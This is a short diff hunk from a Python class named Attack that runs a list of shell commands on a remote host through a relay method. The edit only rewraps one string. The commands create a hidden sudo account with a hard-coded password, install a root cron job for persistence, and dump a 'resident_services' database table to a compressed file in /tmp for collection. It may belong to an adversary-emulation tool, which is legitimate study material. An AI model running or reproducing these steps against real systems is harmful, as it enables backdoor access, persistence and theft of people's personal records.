@@ -157,8 +157,10 @@ class Attack:
             "sudo useradd -m -s /bin/bash -G sudo sysupd; echo sysupd:Sys-Upd-2026 | sudo chpasswd",
             "echo '* * * * * root /bin/sh -c \"date >> /var/tmp/.sysupd\"' | sudo tee /etc/cron.d/sysupd",
             "sudo su - sysupd -c 'id; crontab -l'",
-            "sudo sqlite3 -csv /var/lib/data-api/public.db 'select * from resident_services' > /tmp/rs.csv; "
-            "sudo gzip -1 -k -f /tmp/rs.csv; ls -l /tmp",
+            (
+                "sudo sqlite3 -csv /var/lib/data-api/public.db 'select * from resident_services' > /tmp/rs.csv; "
+                "sudo gzip -1 -k -f /tmp/rs.csv; ls -l /tmp"
+            ),
         ):
             self._weihu(f"{hop} {_quoted(command)}")
             time.sleep(3)
